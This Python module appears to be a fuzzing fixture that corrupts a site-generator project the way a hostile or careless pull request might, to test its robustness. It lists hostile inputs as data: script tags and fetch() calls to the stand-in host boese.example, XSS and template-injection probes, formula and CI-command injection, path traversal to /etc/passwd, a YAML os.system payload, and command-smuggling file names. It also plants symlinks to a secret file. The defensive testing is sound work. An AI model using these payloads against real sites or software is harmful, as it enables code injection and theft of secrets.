"""Projects as a hostile or careless pull request might leave them, each made from a number."""

from __future__ import annotations

import json
import os
import re
from collections.abc import Callable
from pathlib import Path
from random import Random

SECRET = "geheim-0815"
"""Stands in a file beside the project, which nobody may publish."""

FOREIGN_HOST = "boese.example"
_SCRIPT = f"<script src=https://{FOREIGN_HOST}/x.js></script>"

TEXTS = (
    _SCRIPT,
    f"</title>{_SCRIPT}",
    f"'\"><img src=x onerror=alert(1)>{_SCRIPT}",
    f'</script><script>fetch("https://{FOREIGN_HOST}/")</script>',
    f"[a](javascript:alert(1)) [b](//{FOREIGN_HOST}) [c](/\\/{FOREIGN_HOST}/)",
    f"[a]: https://nutzer:geheim@{FOREIGN_HOST}/\n\n[a] ![b](https://{FOREIGN_HOST}/b.png)",
    f"<https://nutzer@{FOREIGN_HOST}/> <javascript:alert(1)> <!-- {FOREIGN_HOST}",
    "{{ config }} {% include 'main.html' %} {{ ''.__class__.__mro__ }} ${7*7} {#",
    "=HYPERLINK(A1) ;@SUM(1) \t+1 |x|y|",
    "::error file=x::y ##[group]z section_start:1:x",
    "> " * 150,
    ">" * 19_900,
    "".join(f"{'  ' * level}- a\n" for level in range(40)),
    "[" * 5_000 + "](" * 5_000,
    "*a **b " * 2_500,
    "`" * 9_999 + "x" + "`" * 9_998,
    "<a:" * 6_000,
    "&shy;&#8238;&#0;&nbsp;&colon;",
    "a\u0301" * 5_000,
    "\u202eabc\u200b\u00ad",
    "\ud7ff\ufffd\U0001f468\u200d\U0001f469 شكرا дякую",
    "]]>]]&gt;<![CDATA[ <?php ?> <%= 1 %>",
    "END:VCALENDAR\nBEGIN:VEVENT, ; \\n",
    "../../../../etc/passwd",
    "x" * 20_001,
    "0001-01-01",
    "9999-12-31/0001",
    "-1e999",
    "ja",
    "~",
    "",
    "*" * 300,
    "massnahmen/../../index",
    "con",
)

_LINES = tuple(
    text for text in TEXTS if 0 < len(text) <= 300 and "\n" not in text and "](" not in text
)

_NAMES = (
    *("neu.yml", "Neu Ü.yml", "con.yml", "a" * 240 + ".yml", ".versteckt.yml", "x.yaml", "x.yml~"),
    *("[U+202E].yml", "a\nb.yml", "::error::.yml", "`$(x)`.yml", "-rf.yml", "index.yml", "README"),
)
_PAGE_NAMES = (
    *("neu.md", "index.md", "Ü ä.md", "404.md", "massnahmen.md", "suche/index.md", "a/b/c/d.md"),
    *("x.html", "x.svg", "x.js", "assets/konzept.css", "a\nb.md", "##[group].md", ".x.md", "x.yml"),
)
_MATTER = (
    *("", "title: [", "title: '<script>'", "template: ../../x.html", "template: 404.html"),
    *("description: {a: b}", "hide: true", "title: !!python/object:os.system x", "date: 9999-99"),
)


def spoil(project: Path, number: int) -> list[str]:
    """Make a few changes to a project; gives their names."""
    random = Random(number)
    (project.parent / "geheim.txt").write_text(SECRET, "utf-8")
    changes = _CHANGES if number % 2 else (_prose, _prose, _prose, _page)
    chosen = [random.choice(changes) for _ in range(random.randint(1, 4))]
    for change in chosen:
        change(project, random)
    return [change.__name__ for change in chosen]


def _some_data_file(project: Path, random: Random) -> Path:
    files = [one for one in project.glob("data/**/*.yml") if one.is_file()]
    return random.choice(sorted(files) or [project / "data" / "konzept.yml"])


def _value(project: Path, random: Random) -> None:
    """Another value at one or all keys of one name."""
    file, text = _some_data_file(project, random), random.choice(TEXTS)
    lines = file.read_text("utf-8").split("\n") if file.exists() else [""]
    at = random.randrange(len(lines))
    if found := re.match(r"([ -]*[a-z_]+:) ?(.*)", lines[at]):
        indent = " " * (len(found[1]) - len(found[1].lstrip(" -")) + 2)
        block = "\n".join(f"{indent}{line}" for line in text.split("\n"))
        lines[at] = f"{found[1]} |\n{block}" if random.random() < 0.7 else f"{found[1]} {text}"
    file.write_text("\n".join(lines), "utf-8")


def _prose(project: Path, random: Random) -> None:
    """Another text where texts are written."""
    file = _some_data_file(project, random)
    text = file.read_text("utf-8") if file.is_file() else ""
    places = list(
        re.finditer(r"^([ -]*(?:titel|name|kurz|text|beschreibung|ort): )\S.*$", text, re.M)
    )
    if places:
        place, words = random.choice(places), json.dumps(random.choice(_LINES), ensure_ascii=False)
        file.write_text(f"{text[: place.start()]}{place[1]}{words}{text[place.end() :]}", "utf-8")


def _line(project: Path, random: Random) -> None:
    """A line twice, elsewhere or gone."""
    file = _some_data_file(project, random)
    lines = file.read_text("utf-8").split("\n") if file.exists() else [""]
    line = lines.pop(random.randrange(len(lines)))
    for _ in range(random.randrange(3)):
        lines.insert(random.randrange(len(lines) + 1), line)
    file.write_text("\n".join(lines), "utf-8")


def _bytes(project: Path, random: Random) -> None:
    """Another encoding, cut off, or with bytes changed."""
    file = _some_data_file(project, random)
    text = file.read_text("utf-8") if file.exists() else ""
    content = random.choice(
        [
            text.encode("latin-1", "replace"),
            text.encode("utf-16"),
            b"\xef\xbb\xbf" + text.encode(),
            text.replace("\n", "\r\n").encode(),
            text.encode()[: random.randrange(len(text) + 1)],
            text.encode() + random.randbytes(20),
            b"",
            b"\0" * 1000,
            text.encode() * 40,
        ]
    )
    file.write_bytes(content)


def _many(project: Path, random: Random) -> None:
    """A list with many entries, distinct or not."""
    file = project / "data/massnahmen" / "radweg.yml"
    entry = random.choice(["alt-{}", "alt", "Ä {}", "'{}'"])
    entries = ", ".join(entry.format(one) for one in range(random.choice([100, 3_000, 20_000])))
    key = random.choice(["alte_ids", "zielgruppen", "ziele", "auch_in", "verweise", "nachfolger"])
    if file.is_file():
        file.write_text(f"{file.read_text('utf-8')}\n{key}: [{entries}]\n", "utf-8")


def _odd_entry(project: Path, random: Random) -> None:
    """A file, folder, link or pipe that does not belong there."""
    folder = project / random.choice(["data", "data/massnahmen", "docs", "docs/assets", "hooks"])
    target = folder / random.choice((*_NAMES, *_PAGE_NAMES))
    if target.exists() or target.is_symlink() or not folder.is_dir():
        return
    target.parent.mkdir(parents=True, exist_ok=True)
    kinds: tuple[Callable[[], object], ...] = (
        lambda: target.symlink_to(project.parent / "geheim.txt"),
        lambda: target.symlink_to("/dev/zero"),
        lambda: target.symlink_to(project.parent),
        lambda: target.symlink_to("nirgends"),
        lambda: os.mkfifo(target),
        lambda: target.mkdir(),
        lambda: target.write_bytes(b"\xff\xfe\0"),
    )
    random.choice(kinds)()


def _copied(project: Path, random: Random) -> None:
    """A data file under another name, or gone."""
    file = _some_data_file(project, random)
    if file.is_file():
        content = file.read_bytes()
        if random.random() < 0.3:
            file.unlink()
        else:
            (file.parent / random.choice(_NAMES)).write_bytes(content)


def _page(project: Path, random: Random) -> None:
    """A page or file that is written by hand."""
    target = project / "docs" / random.choice(_PAGE_NAMES)
    if target.exists() or target.is_symlink():
        return
    target.parent.mkdir(parents=True, exist_ok=True)
    texts = "\n\n".join(random.choice(TEXTS) for _ in range(3))
    content = f"---\n{random.choice(_MATTER)}\n---\n# {random.choice(TEXTS)}\n\n{texts}\n"
    encoding = random.choice(["utf-8", "utf-8", "utf-8", "utf-16"])
    target.write_bytes(content.encode(encoding, "replace"))


_CHANGES = (_value, _value, _value, _line, _bytes, _many, _odd_entry, _copied, _page, _page)
